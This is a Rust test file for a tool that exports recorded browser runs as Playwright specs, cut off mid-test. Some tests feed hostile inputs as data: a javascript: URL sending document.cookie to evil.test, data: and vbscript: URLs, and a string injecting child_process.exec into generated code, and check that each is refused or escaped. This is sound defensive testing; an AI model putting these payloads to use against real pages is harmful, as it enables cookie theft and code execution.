//! The export of hand-written runs: the Playwright specs pinned by snapshots, and each rule
//! (locators, variables and their namespace, popups, waits, failures, gaps, refused
//! navigations and selectors, escaping) by a focused test.

use super::{export, export_with, ExportOptions, Format};
use serde_json::{json, Value};
use std::path::Path;

const RUN: &str = "20261203T220229765Z-09442d7b50257d27";
const ORIGIN: &str = "http://127.0.0.1:38237";
const PAGE: &str = "target:6ab217919c73";
const PAGE2: &str = "target:f90f6a67888e";

/// Writes a finalized run directory holding `records` (each given `actionId`, `startedAt` by
/// position, `status: ok` and `source: relay` unless it has them).
fn run(dir: &Path, records: &[Value]) {
    run_with_status(dir, records, "finalized");
}

fn run_with_status(dir: &Path, records: &[Value], status: &str) {
    std::fs::create_dir_all(dir.join("artifacts")).unwrap();
    let manifest = json!({
        "evidenceVersion": 1, "runId": RUN, "sessionId": "demo", "actionLog": "actions.jsonl",
        "status": status, "startedAt": "2026-12-03T22:02:29.765Z",
    });
    std::fs::write(dir.join("manifest.json"), manifest.to_string()).unwrap();
    let mut journal = String::new();
    for (i, r) in records.iter().enumerate() {
        let mut r = r.clone();
        let o = r.as_object_mut().unwrap();
        let defaults = [
            (
                "actionId",
                json!(format!("1796335350{i:03}-0000019792-{i:010}-00000000")),
            ),
            (
                "startedAt",
                json!(format!(
                    "2026-12-03T22:02:{:02}.{:03}Z",
                    30 + i / 1000,
                    i % 1000
                )),
            ),
            ("status", json!("ok")),
            ("source", json!("relay")),
            ("tool", json!("cdp")),
            ("sessionId", json!("demo")),
            ("durationMs", json!(1)),
            ("artifacts", json!([])),
        ];
        for (k, v) in defaults {
            o.entry(k).or_insert(v);
        }
        journal.push_str(&r.to_string());
        journal.push('\n');
    }
    std::fs::write(dir.join("actions.jsonl"), journal).unwrap();
}

fn on(page: &str, path: &str, payload: Value) -> Value {
    json!({"kind": "action", "payload": payload,
           "target": {"targetId": page, "type": "page", "url": format!("{ORIGIN}{path}")}})
}

fn spec(records: &[Value]) -> super::Export {
    spec_with(records, false)
}

fn spec_with(records: &[Value], allow_gaps: bool) -> super::Export {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join(RUN);
    run(&dir, records);
    export_with(&dir, ExportOptions::allowing_gaps(allow_gaps)).unwrap()
}

/// A click at `ms` on [`PAGE`] with `target` and `detail`.
fn click_at(ms: u64, target: Value, detail: Value) -> Value {
    let mut r = on(
        PAGE,
        "/",
        json!({"method": "click", "point": {"x": 5.0, "y": 6.0},
        "target": target, "detail": detail}),
    );
    r["startedAt"] = json!(format!(
        "2026-12-03T22:03:{:02}.{:03}Z",
        ms / 1000,
        ms % 1000
    ));
    r
}

/// The demo's run as the relay records it with locators and named inputs.
fn demo() -> Vec<Value> {
    let field = |label: &str| json!({"label": label});
    let typed = |chars: u64, t: &str, var: &str, target: Value| {
        on(
            PAGE,
            "/login",
            json!({"method": "type", "input": {"chars": chars, "inputType": t, "variable": var},
            "target": target, "detail": {"commands": 1}}),
        )
    };
    vec![
        json!({"kind": "marker", "tool": "cdp-evidence", "status": "info", "payload": {"marker": "runStarted", "pid": 1}}),
        json!({"kind": "action", "payload": {"method": "Target.attachToTarget", "detail": {"targetId": PAGE}}}),
        json!({"kind": "action", "payload": {"method": "Page.navigate", "url": format!("{ORIGIN}/login")},
               "target": {"targetId": PAGE, "type": "page", "url": "about:blank"}}),
        on(
            PAGE,
            "/login",
            json!({"method": "Runtime.evaluate", "bytes": 42}),
        ),
        on(
            PAGE,
            "/login",
            json!({"method": "Page.captureScreenshot", "bytes": 23317}),
        ),
        on(
            PAGE,
            "/login",
            json!({"method": "click", "point": {"x": 512.0, "y": 276.25},
            "detail": {"button": "left", "clickCount": 1}, "target": field("Email")}),
        ),
        typed(25, "email", "EMAIL", field("Email")),
        on(
            PAGE,
            "/login",
            json!({"method": "click", "point": {"x": 512.0, "y": 357.25},
            "detail": {"button": "left", "clickCount": 1}, "target": field("Password")}),
        ),
        typed(14, "password", "PASSWORD", field("Password")),
        on(
            PAGE,
            "/login",
            json!({"method": "click", "point": {"x": 512.0, "y": 438.25},
            "detail": {"button": "left", "clickCount": 1}, "target": field("One-time code")}),
        ),
        typed(6, "one-time-code", "OTP", field("One-time code")),
        on(
            PAGE,
            "/login",
            json!({"method": "click", "point": {"x": 390.2, "y": 497.75},
            "detail": {"button": "left", "clickCount": 1}, "target": {"role": "button", "name": "Sign in"}}),
        ),
        json!({"kind": "action", "tool": "observer", "payload": {"method": "frame", "detail": {"after": ["navigation", "click"]}},
               "target": {"targetId": PAGE, "type": "page", "url": format!("{ORIGIN}/dashboard")}}),
        json!({"kind": "network", "tool": "observer", "status": "error",
               "payload": {"method": "GET", "url": "http://127.0.0.1:42545/v1/updates", "resourceType": "Fetch", "errorText": "net::ERR_CONNECTION_REFUSED"},
               "target": {"targetId": PAGE, "type": "page", "url": format!("{ORIGIN}/dashboard")}}),
        json!({"kind": "console", "tool": "observer", "status": "error",
               "payload": {"level": "error", "text": "Live updates disconnected: Failed to fetch"},
               "target": {"targetId": PAGE, "type": "page", "url": format!("{ORIGIN}/dashboard")}}),
        on(
            PAGE,
            "/dashboard",
            json!({"method": "Page.navigate", "url": format!("{ORIGIN}/search")}),
        ),
        on(
            PAGE,
            "/search",
            json!({"method": "click", "point": {"x": 460.96, "y": 158.75},
            "detail": {"button": "left", "clickCount": 1}, "target": {"role": "searchbox", "name": "Search"}}),
        ),
        on(
            PAGE,
            "/search",
            json!({"method": "type", "input": {"chars": 16, "inputType": "search", "variable": "TYPED_1"},
            "target": {"role": "searchbox", "name": "Search"}}),
        ),
        on(
            PAGE,
            "/search",
            json!({"method": "press", "detail": {"key": "Enter"}}),
        ),
        json!({"kind": "network", "tool": "observer", "status": "error",
               "payload": {"method": "GET", "url": format!("{ORIGIN}/api/search"), "status": 500, "errorText": "Internal Server Error"},
               "target": {"targetId": PAGE, "type": "page", "url": format!("{ORIGIN}/search")}}),
        json!({"kind": "action", "payload": {"method": "Target.createTarget", "url": "about:blank"}}),
        json!({"kind": "action", "payload": {"method": "Target.attachToTarget", "detail": {"targetId": PAGE2}}}),
        json!({"kind": "action", "payload": {"method": "Page.navigate", "url": format!("{ORIGIN}/invoices/INV-1042")},
               "target": {"targetId": PAGE2, "type": "page", "url": "about:blank"}}),
        json!({"kind": "network", "tool": "observer", "status": "error",
               "payload": {"method": "GET", "url": format!("{ORIGIN}/files/INV-1042-receipt.png"), "status": 404},
               "target": {"targetId": PAGE2, "type": "page", "url": format!("{ORIGIN}/invoices/INV-1042")}}),
        json!({"kind": "marker", "tool": "cdp-evidence", "status": "info", "payload": {"marker": "runFinalized", "pid": 1}}),
    ]
}

#[test]
fn the_demo_run_exports_to_a_pinned_spec() {
    let out = spec(&demo());
    insta::assert_snapshot!("demo_spec", out.text);
    assert_eq!(out.figures.steps, 14, "{}", out.text);
    assert_eq!(out.figures.not_replayable, 0);
    // BASE_URL and the four typed inputs.
    assert_eq!(out.figures.variables, 5);
}

/// A run of every kind of step the fidelity work added, as the relay records them.
fn fidelity() -> Vec<Value> {
    let mut records = vec![
        json!({"kind": "action", "payload": {"method": "Page.navigate", "url": format!("{ORIGIN}/shop")},
               "target": {"targetId": PAGE, "type": "page", "url": "about:blank"}}),
        on(
            PAGE,
            "/shop",
            json!({"method": "select", "target": {"label": "Colour", "exact": true}, "options": ["Blue"]}),
        ),
        on(
            PAGE,
            "/shop",
            json!({"method": "DOM.setFileInputFiles", "detail": {"files": 1}, "target": {"label": "Receipt", "exact": true}}),
        ),
        click_at(
            100,
            json!({"testId": "counter"}),
            json!({"button": "left", "clickCount": 1}),
        ),
        click_at(
            150,
            json!({"testId": "counter"}),
            json!({"button": "left", "clickCount": 2}),
        ),
        on(
            PAGE,
            "/shop",
            json!({"method": "click", "target": {"role": "link", "name": "Pricing", "exact": true},
            "hover": {"role": "button", "name": "Products", "exact": true}}),
        ),
        on(
            PAGE,
            "/shop",
            json!({"method": "click", "target": {"text": "Tile", "exact": true}}),
        ),
        on(
            PAGE,
            "/shop",
            json!({"method": "click", "target": {"role": "button", "name": "Deep", "exact": true, "frames": ["#outer", "iframe"]}}),
        ),
        on(
            PAGE,
            "/shop",
            json!({"method": "click", "target": {"replayable": false, "why": "no test id, role and name, label, placeholder, text or short CSS path picks out the element alone"}}),
        ),
    ];
    // In order, a second apart; the double click's two presses 50 ms apart.
    for r in &mut records[3..=4] {
        r["target"]["url"] = json!(format!("{ORIGIN}/shop"));
    }
    for (i, r) in records.iter_mut().enumerate() {
        let (second, ms) = if i == 4 { (13, 50) } else { (10 + i, 0) };
        r["startedAt"] = json!(format!("2026-12-03T22:02:{second:02}.{ms:03}Z"));
    }
    records
}

#[test]
fn a_run_of_every_step_kind_exports_to_a_pinned_spec() {
    let out = spec(&fidelity());
    insta::assert_snapshot!("fidelity_spec", out.text);
    let fixme = spec_with(&fidelity(), true).text;
    insta::assert_snapshot!("fidelity_spec_allowing_gaps", fixme);
}

#[test]
fn the_same_run_exports_to_the_same_bytes() {
    assert_eq!(spec(&demo()).text, spec(&demo()).text);
}

#[test]
fn each_typed_input_is_read_from_its_variable_before_its_step() {
    let text = spec(&demo()).text;
    assert!(text.contains(
        "await page.getByLabel('Password').fill(await typed('PASSWORD', 'the password typed at step 5'));"
    ), "{text}");
    assert!(
        text.contains("const variable = `CDP_RELAY_VAR_${name}`;"),
        "{text}"
    );
    assert!(text.contains("throw new Error(`missing environment variable ${variable} (${what})`)"));
    assert!(
        text.contains(
            "//   CDP_RELAY_VAR_PASSWORD  14 characters typed into a password field at step 5"
        ),
        "{text}"
    );
    assert!(text.contains(
        "//   BASE_URL                an origin the run visited; default http://127.0.0.1:38237"
    ));
    assert!(text.contains("const BASE_URL = origin('BASE_URL', 'http://127.0.0.1:38237');"));
}

#[test]
fn a_click_that_navigated_waits_for_the_page_it_went_to() {
    let text = spec(&demo()).text;
    let click = text
        .find("getByRole('button', { name: 'Sign in' }).click();")
        .unwrap();
    let wait = text
        .find("await page.waitForURL(at(BASE_URL + '/dashboard'));")
        .unwrap();
    assert!(wait > click, "{text}");
    // The search's Enter stayed on /search (its query is not kept): no wait.
    assert_eq!(text.matches("waitForURL").count(), 1, "{text}");
}

#[test]
fn failures_are_comments_at_their_step() {
    let text = spec(&demo()).text;
    let enter = text.find("await page.keyboard.press('Enter');").unwrap();
    let seen = text
        .find("// the original run saw: GET /api/search → 500")
        .unwrap();
    let open = text.find("const page1 = await context.newPage();").unwrap();
    assert!(enter < seen && seen < open, "{text}");
    assert!(text.contains(
        "// the original run saw: GET http://127.0.0.1:42545/v1/updates → net::ERR_CONNECTION_REFUSED"
    ));
    assert!(text.contains(
        "// the original run saw: console error \"Live updates disconnected: Failed to fetch\""
    ));
}

#[test]
fn steps_without_a_target_stay_commented_and_say_why() {
    let out = spec(&[
        on(
            PAGE,
            "/",
            json!({"method": "click", "point": {"x": 10.0, "y": 20.5}}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "type", "input": {"chars": 3, "inputType": "text"},
            "target": {"replayable": false, "why": "its accessible name holds typed text"}}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "click", "point": {"x": 1.0, "y": 2.0}, "target": {"shape": "new"}}),
        ),
    ]);
    let t = &out.text;
    assert!(t.contains("  // 1. click at (10, 20.5): not replayable: no target recorded\n  // await page.mouse.click(10, 20.5);\n  gap('step 1, click at (10, 20.5): no target recorded');\n"), "{t}");
    assert!(t.contains("  // 2. type 3 characters (text): not replayable: its accessible name holds typed text\n  // await page.keyboard.insertText(await typed('TYPED_1', 'the text typed at step 2'));\n  gap('step 2, type 3 characters (text): its accessible name holds typed text');\n"), "{t}");
    assert!(
        t.contains("not replayable: its recorded target is not one this version reads"),
        "{t}"
    );
    assert!(
        t.contains("CDP_RELAY_VAR_TYPED_1  3 characters typed into a text field at step 2 (not replayable)"),
        "{t}"
    );
    assert!(
        t.contains(
            "function gap(step: string): never {\n  throw new Error(`not replayable: ${step}`);\n}"
        ),
        "{t}"
    );
    assert!(
        t.contains("3 steps; 3 of them cannot be replayed: the test fails at the first (step 1)"),
        "{t}"
    );
    assert_eq!(out.figures.not_replayable, 3);
    assert_eq!(out.figures.first_gap, Some(1));
    assert_eq!(out.figures.steps, 3);
}

#[test]
fn every_locator_kind_exact_names_and_frames() {
    let click = |target: Value| on(PAGE, "/", json!({"method": "click", "target": target}));
    let out = spec(&[
        click(json!({"testId": "save"})),
        click(json!({"role": "link", "name": "Home"})),
        click(json!({"role": "link", "name": "Home", "exact": true})),
        click(json!({"label": "Name"})),
        click(json!({"label": "Name", "exact": true})),
        click(json!({"placeholder": "you@x"})),
        click(json!({"placeholder": "you@x", "exact": true})),
        click(json!({"text": "Tile"})),
        click(json!({"text": "Tile", "exact": true})),
        click(json!({"css": "#a > b"})),
        // One frame level, as runs before `frames` wrote it.
        click(json!({"role": "button", "name": "Pay", "frame": "iframe[name=\"checkout\"]"})),
        // Two levels, and a shadow-root element found the way Playwright pierces them.
        click(
            json!({"role": "button", "name": "Deep", "exact": true, "frames": ["#outer", "iframe"]}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "click", "target": {"testId": "x"}, "detail": {"clickCount": 2}}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "click", "target": {"testId": "x"}, "detail": {"button": "right"}}),
        ),
        // A role without a name names no locator.
        click(json!({"role": "main"})),
    ]);
    let t = &out.text;
    for line in [
        "await page.getByTestId('save').click();",
        "await page.getByRole('link', { name: 'Home' }).click();",
        "await page.getByRole('link', { name: 'Home', exact: true }).click();",
        "await page.getByLabel('Name').click();",
        "await page.getByLabel('Name', { exact: true }).click();",
        "await page.getByPlaceholder('you@x').click();",
        "await page.getByPlaceholder('you@x', { exact: true }).click();",
        "await page.getByText('Tile').click();",
        "await page.getByText('Tile', { exact: true }).click();",
        "await page.locator('#a > b').click();",
        "await page.locator('iframe[name=\"checkout\"]').contentFrame().getByRole('button', { name: 'Pay' }).click();",
        "await page.locator('#outer').contentFrame().locator('iframe').contentFrame().getByRole('button', { name: 'Deep', exact: true }).click();",
        "await page.getByTestId('x').dblclick();",
        "await page.getByTestId('x').click({ button: 'right' });",
        "// 15. click: not replayable: its recorded target is not one this version reads",
    ] {
        assert!(t.contains(line), "{line} not in\n{t}");
    }
    assert_eq!(out.figures.not_replayable, 1, "{t}");
}

#[test]
fn a_double_click_recorded_as_two_presses_is_one_double_click() {
    let id = json!({"testId": "counter"});
    let other = json!({"testId": "other"});
    let t = spec(&[
        // A double click: presses with counts 1 and 2.
        click_at(100, id.clone(), json!({"button": "left", "clickCount": 1})),
        click_at(180, id.clone(), json!({"button": "left", "clickCount": 2})),
        // A triple click.
        click_at(
            2_000,
            id.clone(),
            json!({"button": "left", "clickCount": 1}),
        ),
        click_at(
            2_050,
            id.clone(),
            json!({"button": "left", "clickCount": 2}),
        ),
        click_at(
            2_100,
            id.clone(),
            json!({"button": "left", "clickCount": 3}),
        ),
        // Two single clicks, and a second press on another element: never folded.
        click_at(
            4_000,
            id.clone(),
            json!({"button": "left", "clickCount": 1}),
        ),
        click_at(
            4_100,
            id.clone(),
            json!({"button": "left", "clickCount": 1}),
        ),
        click_at(
            6_000,
            id.clone(),
            json!({"button": "left", "clickCount": 1}),
        ),
        click_at(6_050, other, json!({"button": "left", "clickCount": 2})),
        // Presses too far apart are two steps as recorded.
        click_at(
            8_000,
            id.clone(),
            json!({"button": "left", "clickCount": 1}),
        ),
        click_at(
            9_500,
            id.clone(),
            json!({"button": "left", "clickCount": 2}),
        ),
        // A right-button double click.
        click_at(
            12_000,
            id.clone(),
            json!({"button": "right", "clickCount": 1}),
        ),
        click_at(12_080, id, json!({"button": "right", "clickCount": 2})),
    ])
    .text;
    let body: Vec<&str> = t
        .lines()
        .filter(|l| l.trim_start().starts_with("await page."))
        .map(str::trim)
        .collect();
    assert_eq!(
        body,
        [
            "await page.getByTestId('counter').dblclick();",
            "await page.getByTestId('counter').click({ clickCount: 3 });",
            "await page.getByTestId('counter').click();",
            "await page.getByTestId('counter').click();",
            "await page.getByTestId('counter').click();",
            "await page.getByTestId('other').dblclick();",
            "await page.getByTestId('counter').click();",
            "await page.getByTestId('counter').dblclick();",
            "await page.getByTestId('counter').dblclick({ button: 'right' });",
        ],
        "{t}"
    );
    assert!(t.contains("// 1. double click\n"), "{t}");
    assert!(t.contains("// 2. click 3 times\n"), "{t}");
}

#[test]
fn a_press_the_page_never_received_is_no_step_and_script_set_files_are() {
    let out = spec(&[
        on(
            PAGE,
            "/",
            json!({"method": "click", "target": {"text": "Colour Red"}, "received": false}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "click", "target": {"text": "Tile", "exact": true}}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "files", "detail": {"files": 1}, "target": {"label": "Receipt"}}),
        ),
    ]);
    let t = &out.text;
    assert!(t.contains("  // a press the page never received (its client stopped it and clicked again): not replayed\n  // 1. click\n  await page.getByText('Tile', { exact: true }).click();\n"), "{t}");
    assert!(!t.contains("Colour Red"), "{t}");
    assert!(t.contains("await page.getByLabel('Receipt').setInputFiles(files('FILE_1', 'the file chosen at step 2'));"), "{t}");
    assert_eq!(out.figures.steps, 2);
}

#[test]
fn a_click_that_needed_a_hover_hovers_first() {
    let out = spec(&[
        on(
            PAGE,
            "/",
            json!({"method": "click",
            "target": {"role": "link", "name": "Pricing", "exact": true},
            "hover": {"role": "button", "name": "Products", "exact": true}}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "click",
            "target": {"role": "link", "name": "Careers"},
            "hover": {"replayable": false, "why": "the element's name contains typed text"}}),
        ),
    ]);
    let t = &out.text;
    assert!(t.contains("  // 1. click\n  await page.getByRole('button', { name: 'Products', exact: true }).hover();\n  await page.getByRole('link', { name: 'Pricing', exact: true }).click();\n"), "{t}");
    assert!(t.contains("// 2. click: not replayable: the click needed a hover over another element first, and that one cannot be found again: the element's name contains typed text"), "{t}");
    assert_eq!(out.figures.not_replayable, 1);
}

#[test]
fn a_choice_selects_its_options_by_label() {
    let out = spec(&[
        on(
            PAGE,
            "/",
            json!({"method": "select", "target": {"label": "Colour", "exact": true},
            "options": ["Blue"]}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "select", "target": {"label": "Toppings"},
            "options": ["Olives", "Basil 'fresh'"]}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "select", "target": {"label": "Size"}}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "select",
            "target": {"replayable": false, "why": "the chosen option's label contains typed text or text the relay redacts"}}),
        ),
    ]);
    let t = &out.text;
    assert!(t.contains("  // 1. choose Blue\n  await page.getByLabel('Colour', { exact: true }).selectOption({ label: 'Blue' });\n"), "{t}");
    assert!(t.contains("await page.getByLabel('Toppings').selectOption([{ label: 'Olives' }, { label: 'Basil \\'fresh\\'' }]);"), "{t}");
    assert!(
        t.contains("// 3. choose an option: not replayable: the run does not say which"),
        "{t}"
    );
    assert!(
        t.contains(
            "// 4. choose an option: not replayable: the chosen option's label contains typed text"
        ),
        "{t}"
    );
    assert_eq!(out.figures.not_replayable, 2);
}

#[test]
fn a_file_choice_reads_its_paths_from_a_variable_never_a_recorded_name() {
    let out = spec(&[
        on(
            PAGE,
            "/",
            json!({"method": "DOM.setFileInputFiles", "detail": {"files": 1},
            "target": {"label": "Receipt", "exact": true}}),
        ),
        on(
            PAGE,
            "/",
            json!({"method": "DOM.setFileInputFiles", "detail": {"files": 2},
            "target": {"replayable": false, "why": "the relay's page agent saw no file input change"}}),
        ),
    ]);
    let t = &out.text;
    assert!(t.contains("import { delimiter } from 'node:path';"), "{t}");
    assert!(t.contains("  // 1. choose the file\n  await page.getByLabel('Receipt', { exact: true }).setInputFiles(files('FILE_1', 'the file chosen at step 1'));\n"), "{t}");
    assert!(
        t.contains("//   CDP_RELAY_VAR_FILE_1  the path of the file chosen at step 1"),
        "{t}"
    );
    assert!(t.contains("// 2. choose the 2 files: not replayable: the relay's page agent saw no file input change"), "{t}");
    assert!(
        t.contains("return input(name, what).split(delimiter).filter((p) => p !== '');"),
        "{t}"
    );
    assert_eq!(out.figures.variables, 2);
}

#[test]
fn script_and_data_urls_are_never_gone_to_and_fail_the_test_there() {
    let nav = |url: &str| on(PAGE, "/", json!({"method": "Page.navigate", "url": url}));
    let records = [
        nav("http://127.0.0.1:38237/ok"),
        nav("javascript:fetch('https://evil.test/?c='+document.cookie)"),
        nav("data:text/html,<script>alert(1)</script>"),
        nav("vbscript:msgbox(1)"),
        nav("JaVaScRiPt:alert(1)"),
        nav("java\tscript:alert(1)"),
        nav("/relative/path"),
        nav("about:blank"),
        json!({"kind": "action", "payload": {"method": "Target.createTarget", "url": "javascript:alert(2)"}}),
    ];
    let out = spec(&records);
    let t = &out.text;
    for l in t.lines().filter(|l| l.contains("goto(")) {
        assert!(!l.to_ascii_lowercase().contains("script:"), "{l}");
        assert!(!l.contains("data:"), "{l}");
    }
    assert!(t.contains("await page.goto(BASE_URL + '/ok');"), "{t}");
    assert!(t.contains("await page.goto('/relative/path');"), "{t}");
    assert!(t.contains("await page.goto('about:blank');"), "{t}");
    assert!(t.contains("// 2. navigate to javascript:fetch('https://evil.test/?c='+document.cookie): not replayable: a script URL would run in the page's origin, with its cookies, at the replay"), "{t}");
    assert!(t.contains("  gap('step 2, navigate to javascript:fetch(\\'https://evil.test/?c=\\'+document.cookie): a script URL would run in the page\\'s origin, with its cookies, at the replay');"), "{t}");
    assert!(
        t.contains("not replayable: a data: URL would load a document the run did not come from"),
        "{t}"
    );
    assert!(
        t.contains("open a page at javascript:alert(2): not replayable"),
        "{t}"
    );
    assert_eq!(out.figures.not_replayable, 6, "{t}");
    assert_eq!(out.figures.first_gap, Some(2));

    // With --allow-gaps: fixme at the first gap, no gap helper.
    let t = spec_with(&records, true).text;
    assert!(
        t.contains("  test.fixme(true, 'step 2, navigate to javascript:"),
        "{t}"
    );
    assert!(!t.contains("function gap("), "{t}");
    assert!(
        t.contains("the test stops at the first (step 2) as fixme"),
        "{t}"
    );
}

#[test]
fn inputs_live_in_their_own_namespace() {
    let typed = |var: &str| {
        on(
            PAGE,
            "/",
            json!({"method": "type", "input": {"chars": 8, "inputType": "text", "variable": var},
            "target": {"label": "Field"}}),
        )
    };
    let out = spec(&[
        typed("GITHUB_TOKEN"),
        typed("NODE_OPTIONS"),
        typed("CDP_RELAY_ENDPOINT"),
        typed("PATH"),
        typed("BASE_URL"),
        // Not a name the run may give: the export's own TYPED_<n>.
        typed("lower_case"),
        on(
            PAGE,
            "/",
            json!({"method": "Page.navigate", "url": "https://a.test/"}),
        ),
    ]);
    let t = &out.text;
    for name in [
        "GITHUB_TOKEN",
        "NODE_OPTIONS",
        "CDP_RELAY_ENDPOINT",
        "PATH",
        "BASE_URL",
    ] {
        assert!(t.contains(&format!("typed('{name}', ")), "{name}: {t}");
        assert!(
            t.contains(&format!("//   CDP_RELAY_VAR_{name} ")),
            "{name}: {t}"
        );
        assert!(
            !t.contains(&format!("process.env.{name}")) || name == "CDP_RELAY_ENDPOINT",
            "{t}"
        );
        assert!(!t.contains(&format!("process.env['{name}']")), "{t}");
    }
    assert!(t.contains("typed('TYPED_1', "), "{t}");
    // The environment is read in three places only: the endpoint, an origin, an input.
    let reads: Vec<&str> = t
        .lines()
        .filter(|l| l.contains("process.env"))
        .map(str::trim)
        .collect();
    assert_eq!(
        reads,
        [
            "const endpoint = process.env.CDP_RELAY_ENDPOINT;",
            "return (process.env[name] || recorded).replace(/\\/+$/, '');",
            "const value = process.env[variable];",
        ],
        "{t}"
    );
    // Origins are read by the names the export gives them only.
    for l in t.lines().filter(|l| l.contains("= origin(")) {
        assert!(
            l.starts_with("const BASE_URL") && l.contains("origin('BASE_URL"),
            "{l}"
        );
    }
}

#[test]
fn selectors_on_generated_ids_or_classes_are_refused() {
    let click = |target: Value| on(PAGE, "/", json!({"method": "click", "target": target}));
    let out = spec(&[
        click(json!({"css": "#r-7f3a9c"})),
        click(json!({"css": ".Button_primary__3xK9a"})),
        click(json!({"role": "button", "name": "Pay", "frames": ["#frame-8c1e2f9a"]})),
        click(json!({"css": "#email"})),
    ]);
    let t = &out.text;
    assert_eq!(
        t.matches("not replayable: its CSS selector uses an id or class that looks generated")
            .count(),
        3,
        "{t}"
    );
    assert!(!t.contains("locator('#r-7f3a9c')"), "{t}");
    assert!(t.contains("await page.locator('#email').click();"), "{t}");
}

#[test]
fn a_run_still_being_recorded_says_so() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join(RUN);
    run_with_status(&dir, &demo(), "running");
    let out = export(&dir, Format::Playwright).unwrap();
    assert!(out.figures.still_recording);
    assert!(
        out.text
            .contains("// The run was still being recorded when it was exported: what was written after that moment is not here"),
        "{}",
        out.text
    );
    assert!(!spec(&demo()).figures.still_recording);
    assert!(!spec(&demo()).text.contains("still being recorded"));
}

#[test]
fn a_step_whose_record_does_not_fit_the_format_is_a_gap() {
    let out = spec(&[
        on(PAGE, "/", json!({"method": "click", "point": "here"})),
        // Plumbing that does not fit stays plumbing.
        on(
            PAGE,
            "/",
            json!({"method": "Runtime.evaluate", "bytes": "many"}),
        ),
    ]);
    assert!(
        out.text
            .contains("// 1. click: not replayable: its record does not fit the evidence format"),
        "{}",
        out.text
    );
    assert_eq!(out.figures.steps, 1);
}

#[test]
fn journal_text_cannot_break_out_of_literals_or_comments() {
    let evil = "x'); require('child_process').exec('id'); ('\n*/ // \u{2028}`${process.exit()}`\\";
    let t = spec(&[
        on(
            PAGE,
            "/",
            json!({"method": "click", "target": {"role": "button", "name": evil}}),
        ),
        json!({"kind": "console", "status": "error", "payload": {"level": "error", "text": evil},
               "target": {"targetId": PAGE, "url": format!("{ORIGIN}/")}}),
        on(
            PAGE,
            "/",
            json!({"method": "type", "input": {"chars": 1, "inputType": evil, "variable": evil},
            "target": {"label": evil}}),
        ),
    ])
    .text;
    assert!(!t.contains('\u{2028}'));
    assert!(t.contains(r#"getByRole('button', { name: 'x\'); require(\'child_process\').exec(\'id\'); (\'\n*/ // \u2028`${process.exit()}`\\' }).click();"#), "{t}");
    // The text unescaped is only ever inside a `//` comment.
    for l in t.lines().filter(|l| l.contains("require('child_process')")) {
        assert!(l.trim_start().starts_with("//"), "{l}");
    }
    // A variable name that is not one is replaced.
    assert!(
        t.contains("typed('TYPED_1', 'the text typed at step 2')"),
        "{t}"
    );
}

#[test]
fn pages_opened_by_a_click_are_popups() {
    let t = spec(&[
        on(PAGE, "/", json!({"method": "click", "target": {"role": "link", "name": "Open"}})),
        json!({"kind": "action", "payload": {"method": "click", "target": {"testId": "ok"}},
               "target": {"targetId": PAGE2, "openerId": PAGE, "url": format!("{ORIGIN}/popup")}}),
        on(PAGE, "/", json!({"method": "press", "detail": {"key": "Tab"}})),
        json!({"kind": "action", "payload": {"method": "Target.closeTarget", "detail": {"targetId": PAGE2}}}),
    ])
    .text;
    assert!(t.contains(
        "  const page1Promise = page.waitForEvent('popup');\n  await page.getByRole('link', { name: 'Open' }).click();\n  const page1 = await page1Promise;\n"
    ), "{t}");
    assert!(t.contains("await page1.getByTestId('ok').click();"), "{t}");
    assert!(t.contains("await page.keyboard.press('Tab');"), "{t}");
    assert!(t.contains("await page1.close();"), "{t}");
    assert!(t.contains("async ({ page }) =>"), "{t}");
}

#[test]
fn a_run_created_page_is_the_tests_page_and_origins_get_variables() {
    let t = spec(&[
        json!({"kind": "action", "payload": {"method": "Target.createTarget", "url": "about:blank"}}),
        json!({"kind": "action", "payload": {"method": "Page.navigate", "url": "https://shop.test/cart"},
               "target": {"targetId": PAGE, "url": "about:blank"}}),
        json!({"kind": "action", "payload": {"method": "Page.navigate", "url": "https://pay.test"},
               "target": {"targetId": PAGE, "url": "https://shop.test/cart"}}),
        json!({"kind": "action", "payload": {"method": "Page.navigate", "url": "https://shop.test/reset/[redacted:token]"},
               "target": {"targetId": PAGE, "url": "https://pay.test/"}}),
        json!({"kind": "action", "source": "mcp", "tool": "chrome_devtools", "payload": {"method": "navigate_page"}}),
        json!({"kind": "action", "source": "device", "tool": "adb", "payload": {"method": "swipe"}}),
        json!({"kind": "action", "source": "mcp", "tool": "cdp-relay", "payload": {"method": "evidence_summary"}}),
        json!({"kind": "action", "source": "mcp", "tool": "cdp-relay", "payload": {"method": "evidence_mark_step", "label": "pay"}}),
    ])
    .text;
    assert!(
        t.contains("// 1. open a page: the test's own `page`"),
        "{t}"
    );
    assert!(t.contains("await page.goto(BASE_URL + '/cart');"), "{t}");
    assert!(t.contains("await page.goto(BASE_URL_2);"), "{t}");
    assert!(
        t.contains("const BASE_URL_2 = origin('BASE_URL_2', 'https://pay.test');"),
        "{t}"
    );
    assert!(
        t.contains("not replayable: the recorded URL is not one to go to"),
        "{t}"
    );
    assert!(
        t.contains("// agent: navigate_page (chrome_devtools)"),
        "{t}"
    );
    assert!(
        t.contains("// 5. swipe: not replayable: another producer's action"),
        "{t}"
    );
    // The run's page is the test's own: no page or context of its own is opened.
    assert!(!t.contains("newPage") && !t.contains("newContext"), "{t}");
}

#[test]
fn not_a_run_is_an_error_and_an_empty_run_is_a_spec() {
    let tmp = tempfile::tempdir().unwrap();
    assert!(export(tmp.path(), Format::Playwright).is_err());
    let t = spec(&[]).text;
    assert!(t.contains("// The run has no steps to replay."), "{t}");
    assert!(t.contains("// Variables: none."));
}

#[test]
fn report_html_says_how_to_export_the_run() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join(RUN);
    run(&dir, &demo());
    let out = crate::render_to_memory(&dir, &crate::Options::default()).unwrap();
    assert!(
        out.html
            .contains(&format!("cdp-relay export {RUN} --out replay.spec.ts")),
        "{}",
        out.html
    );
}

#[test]
fn a_long_run_of_plumbing_on_interleaved_pages_exports_quickly() {
